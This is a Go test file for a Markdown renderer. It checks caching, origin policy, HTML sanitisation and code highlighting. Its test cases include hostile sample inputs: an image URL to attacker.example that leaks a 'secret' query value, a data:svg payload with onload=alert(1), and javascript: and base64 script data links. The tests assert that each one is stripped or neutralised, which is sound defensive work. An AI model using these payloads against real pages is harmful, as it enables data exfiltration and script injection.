package views

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"unsafe"
)

// The renderer remembers what it rendered: the same source gives the same
// HTML, from memory or not, it keeps no more than it may, and a source it no
// longer holds is rendered again, correctly.
func TestMarkdownRemembersBoundedly(t *testing.T) {
	md := NewMarkdown()
	src := func(i int) string { return fmt.Sprintf("reply **%d**", i) }
	want := func(i int) string { return fmt.Sprintf("<p>reply <strong>%d</strong></p>\n", i) }
	for i := range 2 * markdownCached {
		if got := md.HTML(src(i)); got != want(i) {
			t.Fatalf("render %d: %q", i, got)
		}
		if got := md.HTML(src(i)); got != want(i) {
			t.Fatalf("remembered %d: %q", i, got)
		}
	}
	if len(md.cache) != markdownCached || len(md.order) != markdownCached {
		t.Fatalf("holds %d sources (%d in order), want %d", len(md.cache), len(md.order), markdownCached)
	}
	if _, ok := md.cache[src(0)]; ok {
		t.Fatal("the oldest source was not evicted")
	}
	if got := md.HTML(src(0)); got != want(0) {
		t.Fatalf("evicted source rendered again: %q", got)
	}
	// A source over the size limit is rendered, not kept.
	long := "x" + string(make([]byte, markdownCachedLen))
	md.HTML(long)
	if _, ok := md.cache[long]; ok {
		t.Fatal("an over-long source was kept")
	}
}

// The key is the renderer's own copy: a caller whose string shares memory
// with a buffer it reuses (as fiber's request values do) does not change
// what is remembered.
func TestMarkdownKeepsItsOwnKey(t *testing.T) {
	md := NewMarkdown()
	buf := []byte("first *one*")
	md.HTML(unsafe.String(&buf[0], len(buf)))
	copy(buf, "later *two*")
	if _, ok := md.cache["first *one*"]; !ok {
		t.Fatalf("the remembered key changed with the caller's buffer: %q", slices.Collect(maps.Keys(md.cache)))
	}
}

// markdownCase is a source and what its rendering must and must not hold.
type markdownCase struct {
	name, src  string
	want, deny []string
}

// Images from another origin become links whose text is the URL; data: and
// other non-web images become their alt text; same-origin images stay.
// Every link carries rel="noopener nofollow noreferrer".
func TestMarkdownOriginPolicy(t *testing.T) {
	md := NewMarkdown()
	const rel = `rel="noopener nofollow noreferrer"`
	for _, tc := range []markdownCase{
		{"remote image", "![x](http://attacker.example/leak?d=secret)",
			[]string{`<a href="http://attacker.example/leak?d=secret" ` + rel + ` target="_blank">http://attacker.example/leak?d=secret</a>`},
			[]string{"<img"}},
		{"https image, upper-case scheme", "![x](HTTPS://cdn.example/a.png)",
			[]string{`<a href="https://cdn.example/a.png" ` + rel, `>HTTPS://cdn.example/a.png</a>`}, []string{"<img"}},
		{"protocol-relative image", "![x](//cdn.example/a.png)",
			[]string{`<a href="//cdn.example/a.png" ` + rel, `>//cdn.example/a.png</a>`}, []string{"<img"}},
		{"reference-style image", "see ![x][r]\n\n[r]: https://r.example/i.png \"t\"",
			[]string{`<a href="https://r.example/i.png" ` + rel, `>https://r.example/i.png</a>`}, []string{"<img"}},
		{"image with a title", `![x](http://a.example/i.png "the title")`,
			[]string{`>http://a.example/i.png</a>`}, []string{"<img", "the title"}},
		{"entities in the URL", "![x](http://a.example/i.png?a=1&amp;b=<2>)",
			[]string{`href="http://a.example/i.png?a=1&amp;b=%3C2%3E"`, `>http://a.example/i.png?a=1&amp;b=%3C2%3E</a>`}, []string{"<img", "<2>"}},
		{"remote image inside a link", "[![x](http://r.example/i.png)](http://t.example/)",
			[]string{`<a href="http://t.example/" ` + rel + ` target="_blank">http://r.example/i.png</a>`}, []string{"<img", `href="http://r.example`}},
		{"data: image", "![a *b*](data:image/png;base64,iVBORw0KGgo=)",
			[]string{"<p>a <em>b</em></p>"}, []string{"<img", "data:", "<a"}},
		{"data: svg image (not an image: Markdown ends it at the <)", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
			nil, []string{"<img", "<a", "onload", "<svg"}},
		{"data: link", "[x](data:text/html;base64,PHNjcmlwdD4=)",
			nil, []string{"data:", "<img"}},
		{"javascript: image", "![x](javascript:alert(1))", []string{"<p>x</p>"}, []string{"<img", "javascript"}},
		{"HTML img tag", `<img src="http://a.example/i.png"> and <img src=//b.example/i.png>`,
			nil, []string{"<img", "a.example", "b.example"}},
		{"same-origin image", "![x](/static/a.png)", []string{`<img src="/static/a.png" alt="x">`}, nil},
		{"relative image", "![x](img/a.png)", []string{`<img src="img/a.png" alt="x">`}, nil},
		{"backslash after the root", `![x](/\evil.example/a.png)`, []string{`<img src="/%5Cevil.example/a.png"`}, nil},
		{"autolink", "<http://a.example/x>", []string{`<a href="http://a.example/x" ` + rel + ` target="_blank">http://a.example/x</a>`}, nil},
		{"bare www link", "www.example.com", []string{`<a href="http://www.example.com" ` + rel}, nil},
		{"relative link", "[chat](/chat/1)", []string{`<a href="/chat/1" ` + rel + `>chat</a>`}, nil},
	} {
		out := md.HTML(tc.src)
		for _, w := range tc.want {
			if !strings.Contains(out, w) {
				t.Errorf("%s: %q\nrenders %q\nwithout %q", tc.name, tc.src, out, w)
			}
		}
		for _, d := range tc.deny {
			if strings.Contains(out, d) {
				t.Errorf("%s: %q\nrenders %q\nwith %q", tc.name, tc.src, out, d)
			}
		}
		if why := markdownRemote(out); why != "" {
			t.Errorf("%s: %q renders %q: %s", tc.name, tc.src, out, why)
		}
	}
}

// The sanitiser holds the image rule on its own: HTML that reaches it with
// a remote image (from whatever renderer) loses the image's URL ("/\\a…" is
// escaped to the same-origin path "/%5Ca…").
func TestMarkdownSanitiserDropsRemoteImages(t *testing.T) {
	md := NewMarkdown()
	for _, in := range []string{
		`<img src="http://a.example/i.png">`, `<img src="//a.example/i.png">`, `<img src="/\a.example/i.png">`,
		`<img src="data:image/png;base64,AAAA">`, `<img src=" //a.example/i.png">`, `<img src="HTTP://a.example/i.png">`,
	} {
		out := md.policy.Sanitize(in)
		if markdownRemote(out) != "" || strings.Contains(out, "data:") || strings.Contains(out, "//") {
			t.Errorf("sanitised %q is %q", in, out)
		}
	}
	if out := md.policy.Sanitize(`<img src="/static/a.png" alt="x">`); out != `<img src="/static/a.png" alt="x">` {
		t.Errorf("a same-origin image became %q", out)
	}
}

func TestMarkdownHighlightsFencedCode(t *testing.T) {
	md := NewMarkdown()
	out := md.HTML("```go\nfunc main() { fmt.Println(\"hi\") } // say\n```\n")
	for _, want := range []string{`<pre class="hl-chroma">`, `<span class="hl-kd">func</span>`, `<span class="hl-nf">main</span>`, `<span class="hl-c1">// say</span>`} {
		if !strings.Contains(out, want) {
			t.Errorf("no %s in %s", want, out)
		}
	}
	if strings.Contains(out, "style=") {
		t.Errorf("inline style in %s", out)
	}
	// No language named: plain, escaped.
	if out := md.HTML("```\nplain <b>\n```\n"); !strings.Contains(out, "<pre><code>plain &lt;b&gt;") || strings.Contains(out, "hl-") {
		t.Errorf("a block without a language: %s", out)
	}
	// A block's attributes cannot bring in the page's own classes or styles.
	out = md.HTML("```js {class=\"fixed inset-0\" style=\"monokai\" hl_lines=[1]}\nlet x = 1\n```\n")
	if strings.Contains(out, "fixed") || strings.Contains(out, "style=") || !strings.Contains(out, `class="hl-line hl-hl"`) {
		t.Errorf("attributes on a code block: %s", out)
	}
}
